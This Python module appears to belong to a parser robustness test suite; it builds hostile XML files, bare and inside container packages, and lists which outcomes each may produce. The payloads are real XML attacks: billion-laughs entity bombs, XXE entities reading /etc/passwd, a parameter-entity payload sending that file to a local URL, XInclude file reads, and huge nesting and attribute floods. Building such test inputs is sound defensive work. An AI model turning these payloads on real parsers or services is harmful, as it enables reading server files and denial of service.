"""Attacks by XML, on bare XML files and on the main part of every container."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

from hostile.damage import MIB
from hostile.model import BLANK, BROKEN, LARGE, READ, SLOW, TEXT, Hostile, add
from hostile.packages import PACKAGES, Package

if TYPE_CHECKING:
    from collections.abc import Callable

_PLAIN = Package("", 'letter xmlns="urn:example:letter"', "<body>%(before)s<p>%(text)s</p></body>", "p", {})


def billion_laughs(package: Package) -> str:
    """Entities of entities, ten times each, ten deep."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 11))
    return package.xml(TEXT + "&e10;", prolog=f'<!DOCTYPE x [<!ENTITY e0 "laugh">{levels}]>')


def long_entity_often(package: Package) -> str:
    """One entity of 100,000 letters, shown 50,000 times."""
    return package.xml(TEXT + "&e;" * 50_000, prolog=f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>')


def entities_in_a_ring(package: Package) -> str:
    """Two entities that are each other."""
    return package.xml(TEXT + "&a;", prolog='<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')


def file_of_the_server(package: Package) -> str:
    """An entity that is a file of the machine that reads it."""
    return package.xml(TEXT + "&e;", prolog='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')


def address_inside(package: Package) -> str:
    """An entity, and a grammar, that are to be fetched."""
    where = '"http://127.0.0.1:9/secret"'
    return package.xml(TEXT + "&e;", prolog=f"<!DOCTYPE x SYSTEM {where} [<!ENTITY e SYSTEM {where}>]>")


def parameter_entities(package: Package) -> str:
    """A grammar that would send a file away."""
    declared = '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % g SYSTEM "http://127.0.0.1:9/?%f;">%f;%g;'
    return package.xml(TEXT, prolog=f"<!DOCTYPE x [{declared}]>")


def included(package: Package) -> str:
    """An inclusion of a file of the machine that reads it."""
    include = '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return package.xml(TEXT, before=include)


def deep(package: Package) -> str:
    """Half a million elements in one another."""
    return package.xml(TEXT, before=f"<{package.element}>" * 500_000 + f"</{package.element}>" * 500_000)


def deep_and_open(package: Package) -> str:
    """Elements in one another, none of which ends."""
    return package.xml(TEXT, before=f"<{package.element}>" * 500_000)


def attribute_flood(package: Package) -> str:
    """An element of 200,000 attributes."""
    return package.xml(TEXT, attributes=" ".join(f'a{n}="{n}"' for n in range(200_000)))


def same_attribute(package: Package) -> str:
    """An element with one attribute many times."""
    return package.xml(TEXT, attributes='a="1" ' * 100_000)


def namespace_flood(package: Package) -> str:
    """An element with 100,000 namespaces, and elements that look for theirs in vain."""
    spaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(100_000))
    return package.xml(TEXT, attributes=spaces, before="<n99999:a/>" * 20_000)


def giant_name(package: Package) -> str:
    """An element whose name has 12 million letters."""
    name = "n" * (12 * MIB)
    return package.xml(TEXT, before=f"<{name}/>")


def giant_value(package: Package) -> str:
    """An attribute of 30 MiB."""
    return package.xml(TEXT, before=f'<{package.element} a="{"v" * (30 * MIB)}"></{package.element}>')


def giant_comment(package: Package) -> str:
    """A remark of 30 MiB."""
    return package.xml(TEXT, before=f"<!--{'c' * (30 * MIB)}-->")


def million_elements(package: Package) -> str:
    """A million elements side by side."""
    return package.xml(TEXT, before=f"<{package.element}/>" * 1_000_000)


def encoding_that_lies(package: Package) -> bytes:
    """UTF-8 that calls itself UTF-16."""
    return package.xml(TEXT).replace("UTF-8", "UTF-16").encode()


def encoding_of_nowhere(package: Package) -> bytes:
    """An encoding that does not exist."""
    return package.xml(TEXT).replace("UTF-8", "x-harbour-3").encode()


def in_utf_16(package: Package) -> bytes:
    """Sound, in UTF-16."""
    return package.xml(TEXT).replace("UTF-8", "UTF-16").encode("utf-16")


def never_ending(package: Package) -> str:
    """It stops in the middle."""
    text = package.xml(TEXT)
    return text[: text.index("harbour")]


def references_to_no_letter(package: Package) -> str:
    """Letters that do not exist."""
    return package.xml(TEXT + "&#xFFFFFFFFFF;&#0;&#xD800;")


_LAUGHS = BROKEN | LARGE | READ | BLANK
_ATTACKS: tuple[tuple[Callable[[Package], str | bytes], frozenset[str], bool], ...] = (
    (billion_laughs, _LAUGHS, True),
    (long_entity_often, _LAUGHS, True),
    (entities_in_a_ring, _LAUGHS, True),
    (file_of_the_server, _LAUGHS, True),
    (address_inside, _LAUGHS, True),
    (parameter_entities, _LAUGHS, True),
    (included, READ, True),
    (deep, LARGE, False),
    (deep_and_open, LARGE | BROKEN, False),
    (attribute_flood, LARGE | READ | BROKEN, False),
    (same_attribute, LARGE | READ | BROKEN, True),
    (namespace_flood, LARGE | READ | BROKEN | SLOW, False),
    (giant_name, LARGE | READ | BROKEN, False),
    (giant_value, LARGE | READ | BROKEN, False),
    (giant_comment, LARGE | READ | BROKEN, False),
    (million_elements, LARGE | READ | SLOW, False),
    (encoding_that_lies, BROKEN | READ | BLANK, True),
    (encoding_of_nowhere, BROKEN | READ | BLANK, True),
    (in_utf_16, READ, True),
    (never_ending, BROKEN | READ, True),
    (references_to_no_letter, BROKEN | READ, True),
)


def _packed(package: Package, attack: Callable[[Package], str | bytes]) -> bytes:
    return package.packed(attack(package))


def _bare(attack: Callable[[Package], str | bytes]) -> bytes:
    made = attack(_PLAIN)
    return made if isinstance(made, bytes) else made.encode()


for _attack, _allowed, _quick in _ATTACKS:
    _name = _attack.__name__.replace("_", "-")
    add(Hostile(f"{_name}.xml", partial(_bare, _attack), _allowed, quick=_quick))
    for _kind, _package in PACKAGES.items():
        add(Hostile(f"{_name}.{_kind}", partial(_packed, _package, _attack), _allowed, quick=_quick))
